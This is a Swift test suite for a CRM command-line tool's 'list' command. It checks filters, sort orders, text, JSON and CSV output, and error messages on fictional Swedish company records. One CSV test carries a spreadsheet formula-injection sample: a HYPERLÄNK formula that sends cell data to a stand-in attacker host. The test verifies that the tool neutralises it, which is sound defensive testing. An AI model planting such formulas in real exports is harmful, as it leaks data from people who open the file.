import CRMTestSupport
import Foundation
import Testing

/// `crmgit list`'s filters, orders and formats on the view fixture.
@Suite struct ListCommandTests {
  @Test func swedishOrderWithStageAndCount() {
    let crm = ViewFixture.crm("list")
    let result = ViewFixture.run(["list"], in: crm)
    #expect(result.status == 0)
    #expect(result.lines == [
      "Företag            Kontaktperson     Läge                Försök  Utfall              Bearbetas av",
      "Björk IT AB        Karin Lund        kontaktad           1       –                   Jonas P",
      "Cirkel Konsult AB  Lars Dahl         kontaktad           2       –                   Sara K",
      "Dal System AB      Nils Wallin       återkoppling bokad  1       Intresserad         Emma L",
      "Ek Energi AB       Oskar Björk       återkoppling bokad  2       Återkoppling bokad  Jonas P",
      "Élan Data AB       Erik Holm         ny                  0       –                   –",
      "Fjäll Bygg AB      Per Öberg         återkoppling bokad  1       Intresserad         Sara K",
      "Gran Teknik AB     Sofia Ek          återkoppling bokad  1       Intresserad         Emma L",
      "Hav Logistik AB    Hanna Nyström     LIA-plats klar      2       LIA-plats klar      Emma L",
      "Is Automation AB   Johan Sandberg    LIA-plats klar      1       LIA-plats klar      Jonas P",
      "Ljus Design AB     Elin Forsberg     avslutad            1       Inte intresserad    Sara K",
      "Myr Mjukvara AB    Fredrik Engström  död                 3       –                   Ali H",
      "Åkerö Data AB      Anna Berg         ny                  0       –                   –",
      "Öst Nätverk AB     Maria Strand      i dialog            2       Ring igen senare    Jonas P",
      "13 poster",
      "1 fil gick inte att läsa och saknas här: se crmgit check",
    ])
  }

  @Test(arguments: [
    (["--stage", "bokad"], ["Dal System AB", "Ek Energi AB", "Fjäll Bygg AB", "Gran Teknik AB"]),
    (["--stage", "LIA-plats klar", "--stage", "död"], ["Hav Logistik AB", "Is Automation AB", "Myr Mjukvara AB"]),
    (["--stage", "in dialog"], ["Öst Nätverk AB"]),
    (["--by", "jonas"], ["Björk IT AB", "Ek Energi AB", "Is Automation AB", "Öst Nätverk AB"]),
    (["--found-by", "SARA K"], ["Dal System AB", "Élan Data AB", "Fjäll Bygg AB", "Is Automation AB", "Ljus Design AB", "Öst Nätverk AB"]),
    (["--outcome", "ring"], ["Öst Nätverk AB"]),
    (["--outcome", "intresserad"], ["Dal System AB", "Fjäll Bygg AB", "Gran Teknik AB"]),
    (["--search", "ELAN"], ["Élan Data AB"]),
    (["--search", "kubernetes"], ["Gran Teknik AB"]),
    (["--search", "oppen kallkod"], ["Hav Logistik AB"]),
    (["--search", "björk"], ["Björk IT AB", "Ek Energi AB"]),
    (["--stage", "kontaktad", "--by", "sara"], ["Cirkel Konsult AB"]),
    (["--search", "finns inte"], []),
  ])
  func filters(_ arguments: [String], _ expected: [String]) {
    let crm = ViewFixture.crm("listfilter")
    let result = ViewFixture.run(["list", "--format", "json"] + arguments, in: crm)
    #expect(result.status == 0)
    let rows = (try? JSONSerialization.jsonObject(with: Data(result.standardOutput.utf8))) as? [[String: Any]]
    #expect(rows?.compactMap { $0["company"] as? String } == expected)
    let text = ViewFixture.run(["list"] + arguments, in: crm).lines
    #expect(text.count == expected.count + 3)
    #expect(text[expected.count + 1] == (expected.count == 13 ? "13 poster" : "\(expected.count) av 13 poster"))
  }

  @Test(arguments: [
    ("inmatad", ["Élan Data AB", "Åkerö Data AB", "Cirkel Konsult AB", "Björk IT AB", "Öst Nätverk AB"]),
    ("stage", ["Élan Data AB", "Åkerö Data AB", "Björk IT AB", "Cirkel Konsult AB", "Öst Nätverk AB"]),
    ("attempts", ["Élan Data AB", "Åkerö Data AB", "Björk IT AB", "Dal System AB", "Fjäll Bygg AB"]),
    ("company", ["Björk IT AB", "Cirkel Konsult AB", "Dal System AB", "Ek Energi AB", "Élan Data AB"]),
  ])
  func orders(_ order: String, _ firstFive: [String]) {
    let crm = ViewFixture.crm("listsort")
    let result = ViewFixture.run(["list", "--format", "json", "--sort", order], in: crm)
    let rows = (try? JSONSerialization.jsonObject(with: Data(result.standardOutput.utf8))) as? [[String: Any]]
    #expect(rows?.prefix(5).compactMap { $0["company"] as? String } == firstFive)
    #expect(rows?.count == 13)
  }

  @Test func sortedByEntryDateTheDateIsShown() {
    let crm = ViewFixture.crm("listentered")
    let lines = ViewFixture.run(["list", "--sort", "inmatad", "--stage", "ny", "--lang", "en"], in: crm).lines
    #expect(lines == [
      "Company        Contact    Stage  Attempts  Outcome  Handled by  Entered",
      "Élan Data AB   Erik Holm  new    0         –        –           2026-12-01",
      "Åkerö Data AB  Anna Berg  new    0         –        –           2026-11-20",
      "2 of 13 records",
      "1 file could not be read and is left out: see crmgit check",
    ])
  }

  @Test func jsonHasEveryFieldOfTheRecord() {
    let crm = ViewFixture.crm("listjson")
    let result = ViewFixture.run(["list", "--format", "json", "--search", "hav logistik"], in: crm)
    #expect(result.standardOutput == """
      [
        {
          "attempts" : "2",
          "company" : "Hav Logistik AB",
          "contact" : "Hanna Nyström",
          "email" : "kontakt19@foretag.example",
          "entered" : "2026-09-01",
          "follow_up" : null,
          "follow_up_booked" : "nej",
          "found_by" : "Jonas P",
          "good_to_know" : [
            "Jobbar med öppen källkod."
          ],
          "handled_by" : "Emma L",
          "last_note" : "2026-10-01",
          "notes" : 1,
          "outcome" : "LIA-plats klar",
          "path" : "records/hav-logistik-ab.md",
          "phone" : "070-174 06 19",
          "source" : "LinkedIn",
          "stage" : "won",
          "title" : "VD"
        }
      ]

      """)
    #expect(result.errorLines == ["varning: 1 fil gick inte att läsa och saknas här: se crmgit check"])
  }

  /// Case 24: cells a spreadsheet would run as formulas get a `'` in front; quotes, commas
  /// and the facts' line breaks are quoted as RFC 4180 says.
  @Test func csvNeutralisesFormulasAndQuotes() {
    let crm = Scratch.crm(withCase: "24-formula-injection.md", as: "raknestickan-ab.md")
    let result = ViewFixture.run(["list", "--format", "csv"], in: crm)
    #expect(result.status == 0)
    #expect(result.standardOutput == """
      path,company,contact,title,phone,email,entered,found_by,source,handled_by,attempts,outcome,follow_up_booked,follow_up,good_to_know,stage,notes,last_note
      records/raknestickan-ab.md,Räknestickan AB,Mira Falk,Inköpschef,'+46 70 174 06 22,info@raknestickan.example,2024-03-06,Emma L,"'=HYPERLÄNK(""http://angripare.example/?d=""&B2;""Öppna offert"")",,0,,nej,,"'=1+1
      @SUMMA(1+1)
      -10 % rabatt på första ordern
      +2 veckors leveranstid",new,1,2024-03-06

      """)
  }

  @Test func badStageAndOrderAreUsageErrors() {
    let crm = ViewFixture.crm("listbad")
    let stage = ViewFixture.run(["list", "--stage", "varm"], in: crm)
    #expect(stage.status == 2)
    #expect(stage.errorLines == [
      "crmgit: okänt läge \"varm\" (välj ny, kontaktad, dialog, bokad, klar, avslutad, död)",
      "  tips: se crmgit list --help",
    ])
    let order = ViewFixture.run(["list", "--sort", "name", "--lang", "en"], in: crm)
    #expect(order.status == 2)
    #expect(order.errorLines == [
      "crmgit: unknown value \"name\" for --sort (choose inmatad, company, stage, attempts)",
      "  hint: see crmgit list --help",
    ])
    let format = ViewFixture.run(["list", "--format", "xlsx"], in: crm)
    #expect(format.errorLines == ["crmgit: okänt format \"xlsx\" (välj text, csv, json)"])
  }
}
